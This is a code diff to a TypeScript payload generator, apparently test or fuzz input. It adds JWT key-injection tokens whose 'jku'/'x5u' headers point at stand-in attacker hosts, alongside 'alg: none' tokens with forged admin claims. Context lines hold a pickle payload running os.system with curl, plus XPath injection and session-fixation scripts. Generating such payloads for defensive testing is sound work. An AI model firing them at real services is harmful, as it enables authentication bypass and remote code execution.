@@ -69,9 +69,30 @@ export const base64url = (text: string) => Buffer.from(text).toString("base64url
 function unsignedToken(r: () => number): string {
   const alg = pick(r, ["none", "None", "NONE", "nOnE"]);
   const header = pick(r, [{ alg, typ: "JWT" }, { typ: "JWT", alg }, { alg }]);
-  const claims = { sub: pick(r, ["admin", "1", letters(r)]), [pick(r, ["role", "scope", "groups", "is_admin"])]: pick(r, ["admin", "root", true, ["admin"]]), iat: 1_700_000_000 + Math.floor(r() * 1e8) };
   const signature = pick(r, ["", "", base64url(letters(r).repeat(4))]);
-  return `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(claims))}.${signature}`;
+  return `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(forgedClaims(r)))}.${signature}`;
+}
+
+/** Forged claims: who the token says its bearer is. */
+function forgedClaims(r: () => number): Record<string, unknown> {
+  return { sub: pick(r, ["admin", "1", letters(r)]), [pick(r, ["role", "scope", "groups", "is_admin"])]: pick(r, ["admin", "root", true, ["admin"]]), iat: 1_700_000_000 + Math.floor(r() * 1e8) };
+}
+
+/**
+ * A JSON Web Token whose header brings the key to check it with: the attacker's own (`jwk`) or a URL
+ * to fetch it from (`jku`, `x5u`), signed with the attacker's key.
+ */
+function keyBringingToken(r: () => number): string {
+  const alg = pick(r, ["RS256", "RS512", "ES256", "PS256"]);
+  const host = pick(r, ["attacker.example", "evil.example.net", "198.51.100.7", "ngrok-free.example"]);
+  const key = pick(r, [
+    { jwk: { kty: "RSA", e: "AQAB", n: base64url(letters(r).repeat(8)) } },
+    { jwk: { kty: "EC", crv: "P-256", x: base64url(letters(r).repeat(3)), y: base64url(letters(r).repeat(3)) } },
+    { jku: `${pick(r, ["https", "http"])}://${host}/${pick(r, [".well-known/jwks.json", "jwks", "keys.json"])}` },
+    { x5u: `${pick(r, ["https", "http"])}://${host}/${pick(r, ["cert.pem", "x5u.crt"])}` },
+  ]);
+  const header = { alg, ...(r() < 0.6 ? { typ: "JWT" } : {}), ...key };
+  return `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(forgedClaims(r)))}.${base64url(letters(r).repeat(6))}`;
 }
 
 const GRAMMAR: Record<AttackClass, Gen[]> = {
@@ -142,7 +163,7 @@ const GRAMMAR: Record<AttackClass, Gen[]> = {
     (r) => Buffer.from(`\x80\x04c${pick(r, ["os", "posix", "subprocess"])}\n${pick(r, ["system", "popen"])}\n(S'${pick(r, ["id", "whoami", `curl ${host(r)}`])}'\ntR.`, "latin1").toString("base64"),
   ],
   xpath: [(r) => `${pick(r, ["'", '"', "x'"])} ${pick(r, ["or", "and"])} ${pick(r, ["count(/*)=1", "name(/*)='root'", "string-length(name(/*))>0", "count(//user)>0"])}${pick(r, [" or '1'='1", "", " and '1'='1"])}`],
-  "auth-bypass": [unsignedToken],
+  "auth-bypass": [unsignedToken, keyBringingToken],
   "session-fixation": [(r) => pick(r, ["<script>document.cookie=\"sessionid=1234;\"</script>", "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abc\">", "foo\";document.cookie='PHPSESSID=x';//"])],
 };
 
